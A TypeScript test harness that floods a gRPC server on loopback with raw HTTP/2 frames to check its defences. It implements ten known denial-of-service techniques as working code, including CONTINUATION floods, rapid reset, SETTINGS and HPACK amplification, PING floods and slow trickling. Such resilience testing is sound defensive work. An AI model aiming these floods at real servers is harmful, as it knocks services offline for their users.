// HTTP/2 attacks from raw frames, each against a gRPC port on loopback for a bounded time: the known
// attack classes of HTTP/2 servers (CONTINUATION floods, SETTINGS amplification, PING floods read and
// unread, a gRPC length prefix claiming 4 GiB, empty DATA and HEADERS floods, a frame trickled a byte per
// write, HPACK references to one large table entry, rapid reset). An attacker whose connection is closed
// opens another until its time is up, as a real one would.
//
// Run in a process of its own so that its floods do not share an event loop with the client whose
// latency a test measures: `node --import tsx harness/h2-attack.ts <class> <port> <ms>` prints one JSON
// line (AttackResult).
import net from 'node:net';
import { Flag, frame, FrameType, frameU32, PREFACE, settingsFrame, Setting } from '../h2grpc/h2/frames.js';
import { encodeHeaders } from '../h2grpc/h2/hpack.js';

export const ATTACK_CLASSES = [
  'continuation',
  'settings',
  'ping-read',
  'ping-noread',
  'length-prefix',
  'empty-data',
  'empty-headers',
  'trickle',
  'hpack-refs',
  'rapid-reset',
] as const;
export type AttackClass = (typeof ATTACK_CLASSES)[number];
/**
 * Not an attack: the attacker's process keeps one core busy for the same time and sends nothing, so a
 * test can tell what the machine's own load does to a victim's latency from what an attack does.
 */
export const CONTROL = 'control';

export interface AttackResult {
  attack: AttackClass | typeof CONTROL;
  /** Connections the attacker opened (a closed one is replaced until the time is up). */
  connections: number;
  /** From the first connection's start to its close by the server (ms); null when it stayed open. */
  firstClosedMs: number | null;
  /** GOAWAY error codes the server sent. */
  goaway: number[];
  /** Bytes the attacker wrote. */
  bytesSent: number;
}

const PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
const REQUEST_BLOCK = encodeHeaders({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': PATH,
  ':authority': 'attack',
  'content-type': 'application/grpc',
  te: 'trailers',
});

/** One attacking connection: raw frames out, GOAWAY codes and the close noticed. */
class Conn {
  closed = false;
  closedAt = 0;
  readonly goaway: number[] = [];
  private pending: Buffer = Buffer.alloc(0);
  private nextId = 1;

  private constructor(
    readonly socket: net.Socket,
    read: boolean,
    private readonly stats: { bytes: number },
  ) {
    socket.on('error', () => undefined);
    socket.on('close', () => {
      this.closed = true;
      this.closedAt = performance.now();
    });
    if (read) socket.on('data', (c: Buffer) => this.onData(c));
    else socket.pause();
  }

  static async open(port: number, read: boolean, stats: { bytes: number }): Promise<Conn> {
    const socket = net.connect(port, '127.0.0.1');
    socket.setNoDelay(true);
    await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
    const c = new Conn(socket, read, stats);
    c.send(Buffer.concat([PREFACE, settingsFrame([])]));
    return c;
  }

  /** Stream ids in order, as a client must open them. */
  id(): number {
    const id = this.nextId;
    this.nextId += 2;
    return id;
  }

  /** The id last opened. */
  lastId(): number {
    return this.nextId - 2;
  }

  /** Writes; resolves when the socket can take more (or closed). */
  async send(b: Buffer): Promise<void> {
    if (this.closed) return;
    this.stats.bytes += b.length;
    if (this.socket.write(b)) return;
    await new Promise<void>((resolve) => {
      const done = (): void => {
        this.socket.off('drain', done);
        this.socket.off('close', done);
        resolve();
      };
      this.socket.once('drain', done);
      this.socket.once('close', done);
      // A peer that stopped reading never drains: the caller's deadline still holds.
      setTimeout(done, 200).unref();
    });
  }

  private onData(chunk: Buffer): void {
    this.pending = this.pending.length === 0 ? chunk : Buffer.concat([this.pending, chunk]);
    while (this.pending.length >= 9) {
      const len = this.pending.readUIntBE(0, 3);
      if (this.pending.length < 9 + len) break;
      if (this.pending[3] === FrameType.GOAWAY && len >= 8) this.goaway.push(this.pending.readUInt32BE(13));
      this.pending = this.pending.subarray(9 + len);
    }
  }

  close(): void {
    this.socket.destroy();
  }
}

const turn = (): Promise<void> => new Promise((r) => setImmediate(r));

/** Frames repeated into one buffer of about `bytes`. */
function repeat(f: Buffer, bytes = 64 * 1024): Buffer {
  return Buffer.concat(new Array<Buffer>(Math.max(1, Math.floor(bytes / f.length))).fill(f));
}

/** An HPACK integer with an N-bit prefix (RFC 7541 5.1), `first` holding the pattern bits. */
function hpackInt(value: number, bits: number, first: number): number[] {
  const max = (1 << bits) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  value -= max;
  while (value >= 128) {
    out.push((value & 0x7f) | 0x80);
    value = Math.floor(value / 128);
  }
  out.push(value);
  return out;
}

/** A literal header field with incremental indexing and a new name (6.2.1), no Huffman coding. */
function indexedLiteral(name: string, value: string): Buffer {
  const n = Buffer.from(name, 'latin1');
  const v = Buffer.from(value, 'latin1');
  return Buffer.concat([
    Buffer.from([0x40]),
    Buffer.from(hpackInt(n.length, 7, 0)),
    n,
    Buffer.from(hpackInt(v.length, 7, 0)),
    v,
  ]);
}

interface Plan {
  /** Connections at once. */
  parallel: number;
  read: boolean;
  /** Runs on one connection until it closes or `until` (performance.now()) passes. */
  run(c: Conn, until: number): Promise<void>;
}

const PLANS: Record<AttackClass, Plan> = {
  // Zero-length CONTINUATION frames that never end the block (CVE-2024-27316).
  continuation: {
    parallel: 1,
    read: true,
    async run(c, until) {
      await c.send(frame(FrameType.HEADERS, 0, c.id(), REQUEST_BLOCK));
      const flood = repeat(frame(FrameType.CONTINUATION, 0, c.lastId()));
      while (!c.closed && performance.now() < until) await c.send(flood);
    },
  },
  // 900 open streams, then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each.
  settings: {
    parallel: 1,
    read: true,
    async run(c, until) {
      const opens: Buffer[] = [];
      for (let i = 0; i < 900; i++)
        opens.push(frame(FrameType.HEADERS, Flag.END_HEADERS, c.id(), REQUEST_BLOCK));
      await c.send(Buffer.concat(opens));
      const pairs: [number, number][] = [];
      for (let i = 0; i < 2730; i++) pairs.push([Setting.INITIAL_WINDOW_SIZE, 65_535 + (i % 2)]);
      const big = settingsFrame(pairs);
      while (!c.closed && performance.now() < until) {
        await c.send(big);
        await turn();
      }
    },
  },
  // PINGs as fast as the socket takes them, the ACKs read.
  'ping-read': {
    parallel: 2,
    read: true,
    async run(c, until) {
      const flood = repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8)));
      while (!c.closed && performance.now() < until) await c.send(flood);
    },
  },
  // The same, the ACKs never read.
  'ping-noread': {
    parallel: 3,
    read: false,
    async run(c, until) {
      const flood = repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8)));
      while (!c.closed && performance.now() < until) await c.send(flood);
    },
  },
  // 16 streams a connection whose message prefix claims 4 GiB, their data trickled within the windows;
  // new streams replace those the server ends.
  'length-prefix': {
    parallel: 2,
    read: true,
    async run(c, until) {
      const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
      const chunk = Buffer.alloc(16_000, 0x41);
      while (!c.closed && performance.now() < until) {
        const ids: number[] = [];
        const out: Buffer[] = [];
        for (let i = 0; i < 16; i++) {
          const id = c.id();
          ids.push(id);
          out.push(frame(FrameType.HEADERS, Flag.END_HEADERS, id, REQUEST_BLOCK));
          out.push(frame(FrameType.DATA, 0, id, prefix));
        }
        await c.send(Buffer.concat(out));
        // Up to the stream window (65,535) each, then the next set of streams.
        for (let k = 0; k < 4 && !c.closed; k++) {
          await c.send(Buffer.concat(ids.map((id) => frame(FrameType.DATA, 0, id, chunk))));
          await turn();
        }
      }
    },
  },
  // Empty DATA frames without END_STREAM on an open stream.
  'empty-data': {
    parallel: 1,
    read: true,
    async run(c, until) {
      const id = c.id();
      await c.send(frame(FrameType.HEADERS, Flag.END_HEADERS, id, REQUEST_BLOCK));
      const flood = repeat(frame(FrameType.DATA, 0, id));
      while (!c.closed && performance.now() < until) await c.send(flood);
    },
  },
  // HEADERS with an empty block on ever new stream ids.
  'empty-headers': {
    parallel: 1,
    read: true,
    async run(c, until) {
      while (!c.closed && performance.now() < until) {
        const out: Buffer[] = [];
        for (let i = 0; i < 2000; i++) out.push(frame(FrameType.HEADERS, Flag.END_HEADERS, c.id()));
        await c.send(Buffer.concat(out));
      }
    },
  },
  // 50 connections, each writing a 16 KiB DATA frame one byte per write.
  trickle: {
    parallel: 50,
    read: true,
    async run(c, until) {
      const id = c.id();
      await c.send(frame(FrameType.HEADERS, Flag.END_HEADERS, id, REQUEST_BLOCK));
      const f = frame(FrameType.DATA, 0, id, Buffer.alloc(16_384, 0x42));
      for (let i = 0; i < f.length && !c.closed && performance.now() < until; i++) {
        await c.send(f.subarray(i, i + 1));
        await turn();
      }
    },
  },
  // One 4,000-byte entry in the dynamic table, then requests that reference it 15 times each (just under
  // the 64 KiB header list) and never end, and blocks that reference it 16,000 times.
  'hpack-refs': {
    parallel: 2,
    read: true,
    async run(c, until) {
      const entry = indexedLiteral('x-big', 'v'.repeat(4000 - 5 - 32));
      const refs15 = Buffer.from(new Array<number>(15).fill(0x80 | 62));
      const refs16k = Buffer.from(new Array<number>(16_000).fill(0x80 | 62));
      await c.send(frame(FrameType.HEADERS, Flag.END_HEADERS, c.id(), Buffer.concat([REQUEST_BLOCK, entry])));
      while (!c.closed && performance.now() < until) {
        const out: Buffer[] = [];
        for (let i = 0; i < 50; i++)
          out.push(
            frame(FrameType.HEADERS, Flag.END_HEADERS, c.id(), Buffer.concat([REQUEST_BLOCK, refs15])),
          );
        out.push(frame(FrameType.HEADERS, Flag.END_HEADERS, c.id(), refs16k.subarray(0, 16_000)));
        await c.send(Buffer.concat(out));
        await turn();
      }
    },
  },
  // A request opened and reset at once, over and over (CVE-2023-44487).
  'rapid-reset': {
    parallel: 1,
    read: true,
    async run(c, until) {
      while (!c.closed && performance.now() < until) {
        const out: Buffer[] = [];
        for (let i = 0; i < 500; i++) {
          const id = c.id();
          out.push(frame(FrameType.HEADERS, Flag.END_HEADERS, id, REQUEST_BLOCK));
          out.push(frameU32(FrameType.RST_STREAM, id, 8));
        }
        await c.send(Buffer.concat(out));
        await turn();
      }
    },
  },
};

/** Spins for `ms`, yielding now and then, as busy as an attacker's process and sending nothing. */
async function spin(ms: number): Promise<void> {
  const until = performance.now() + ms;
  while (performance.now() < until) {
    const slice = performance.now() + 5;
    while (performance.now() < slice) {
      // busy
    }
    await turn();
  }
}

/** Runs one attack against 127.0.0.1:port for `ms`. */
export async function runAttack(
  attack: AttackClass | typeof CONTROL,
  port: number,
  ms: number,
): Promise<AttackResult> {
  if (attack === CONTROL) {
    await spin(ms);
    return { attack: CONTROL, connections: 0, firstClosedMs: null, goaway: [], bytesSent: 0 };
  }
  const plan = PLANS[attack];
  const start = performance.now();
  const until = start + ms;
  const stats = { bytes: 0 };
  const result: AttackResult = { attack, connections: 0, firstClosedMs: null, goaway: [], bytesSent: 0 };
  let first = true;
  const lane = async (): Promise<void> => {
    while (performance.now() < until) {
      let c: Conn;
      try {
        c = await Conn.open(port, plan.read, stats);
      } catch {
        await new Promise((r) => setTimeout(r, 10));
        continue;
      }
      const isFirst = first;
      first = false;
      result.connections++;
      const opened = performance.now();
      try {
        await plan.run(c, until);
      } catch {
        // the socket went away under the attacker
      }
      // An attack that stopped sending still waits for the server's verdict until the time is up.
      while (!c.closed && performance.now() < until) await new Promise((r) => setTimeout(r, 20));
      if (c.closed && isFirst) result.firstClosedMs = Math.round(c.closedAt - opened);
      result.goaway.push(...c.goaway);
      c.close();
    }
  };
  await Promise.all(Array.from({ length: plan.parallel }, lane));
  result.bytesSent = stats.bytes;
  result.goaway = [...new Set(result.goaway)];
  return result;
}

if (process.argv[1] !== undefined && import.meta.url.endsWith(process.argv[1].replace(/^.*\//, '/'))) {
  const [attack, port, ms] = process.argv.slice(2);
  if (attack !== CONTROL && !ATTACK_CLASSES.includes(attack as AttackClass)) {
    console.error(`usage: h2-attack.ts <${[...ATTACK_CLASSES, CONTROL].join('|')}> <port> <ms>`);
    process.exit(2);
  }
  runAttack(attack as AttackClass, Number(port), Number(ms)).then(
    (r) => {
      console.log(JSON.stringify(r));
      process.exit(0);
    },
    (err) => {
      console.error(err);
      process.exit(1);
    },
  );
}
